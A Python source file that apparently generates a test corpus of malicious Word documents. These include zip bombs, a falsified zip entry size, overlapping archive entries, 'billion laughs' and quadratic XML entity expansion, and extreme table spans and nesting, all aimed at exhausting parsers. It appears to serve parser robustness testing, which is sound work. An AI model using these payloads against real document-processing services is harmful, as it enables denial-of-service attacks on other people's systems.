"""Word documents."""

# ruff: noqa: E501  an object of PDF is easier to read in one line

from __future__ import annotations

import io
import struct
import zipfile

from bombs.making import MIB, bomb

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(body: bytes, *, before: bytes = b"", more: dict[str, bytes] | None = None) -> bytes:
    """Write a Word document."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        archive.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        archive.writestr(
            "word/document.xml",
            b'<?xml version="1.0"?>'
            + before
            + f'<w:document xmlns:w="{WORD}"><w:body>'.encode()
            + body
            + b"</w:body></w:document>",
        )
        for name, data in (more or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


PARAGRAPH = b"<w:p><w:r><w:t>a</w:t></w:r></w:p>"


@bomb("zip_blanks.docx")
def _() -> bytes:
    return docx(PARAGRAPH + b" " * (100 * MIB))


@bomb("zip_lies.docx")
def _() -> bytes:
    data = docx(PARAGRAPH + b" " * (127 * MIB))
    place = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/document.xml"))
    changed = bytearray(data)
    struct.pack_into("<I", changed, place + 24, 1000)
    return bytes(changed)


@bomb("zip_entries.docx")
def _() -> bytes:
    return docx(PARAGRAPH, more={f"x/{k}": b"" for k in range(60_000)})


@bomb("zip_overlap.docx")
def _() -> bytes:
    data = docx(PARAGRAPH * 100_000)
    count, size, start = struct.unpack_from("<HII", data, data.rfind(b"PK\x05\x06") + 10)
    directory = data[start : start + size]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"document.xml", b"docu%04d.xml" % number) for number in range(2000))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count + 2000, count + 2000, size + len(copies), start, 0)
    return data[:start] + directory + copies + end


@bomb("xml_laughs.docx")
def _() -> bytes:
    entities = b"".join(b'<!ENTITY a%d "%s">' % (k + 1, b"&a%d;" % k * 10) for k in range(12))
    return docx(b"<w:p><w:r><w:t>&a12;</w:t></w:r></w:p>", before=b'<!DOCTYPE x [<!ENTITY a0 "ha">' + entities + b"]>")


@bomb("xml_quadratic.docx")
def _() -> bytes:
    return docx(
        b"<w:p><w:r><w:t>" + b"&a;" * 100_000 + b"</w:t></w:r></w:p>",
        before=b'<!DOCTYPE x [<!ENTITY a "' + b"x" * 100_000 + b'">]>',
    )


@bomb("paragraphs.docx")
def _() -> bytes:
    return docx(PARAGRAPH * 1_500_000)


@bomb("runs.docx")
def _() -> bytes:
    return docx(b"<w:p>" + b"<w:r><w:t>a</w:t></w:r>" * 3_000_000 + b"</w:p>")


def table(cell: bytes, columns: int, rows: int) -> bytes:
    """Return a table of one cell, again and again."""
    return b"<w:tbl>" + (b"<w:tr>" + cell * columns + b"</w:tr>") * rows + b"</w:tbl>"


def spanning(columns: int) -> bytes:
    """Return a cell of a table that claims to be as wide as so many."""
    return b'<w:tc><w:tcPr><w:gridSpan w:val="%d"/></w:tcPr>' % columns + PARAGRAPH + b"</w:tc>"


@bomb("cells.docx")
def _() -> bytes:
    return docx(table(b"<w:tc>" + PARAGRAPH + b"</w:tc>", 1000, 1000))


@bomb("cells_span.docx")
def _() -> bytes:
    return docx(table(spanning(2_000_000_000), 2, 100))


@bomb("cells_span_medium.docx")
def _() -> bytes:
    return docx(table(spanning(63), 100, 3000))


@bomb("cells_before.docx")
def _() -> bytes:
    row = b'<w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr><w:tc>' + PARAGRAPH + b"</w:tc></w:tr>"
    return docx(b"<w:tbl>" + row * 10 + b"</w:tbl>")


@bomb("tables_deep.docx")
def _() -> bytes:
    depth = 80
    return docx((b"<w:tbl><w:tr><w:tc>" * depth) + PARAGRAPH + (b"</w:tc></w:tr></w:tbl>" + PARAGRAPH) * depth)


@bomb("elements_deep.docx")
def _() -> bytes:
    return docx(b"<w:p>" + b"<w:sdt><w:sdtContent>" * 100_000 + b"</w:sdtContent></w:sdt>" * 100_000 + b"</w:p>")


@bomb("attributes.docx")
def _() -> bytes:
    return docx(b"<w:p " + b" ".join(b'a%d="1"' % k for k in range(500_000)) + b"/>")


@bomb("lists.docx")
def _() -> bytes:
    item = (
        b'<w:p><w:pPr><w:numPr><w:ilvl w:val="8"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>'
    )
    return docx(item * 300_000)
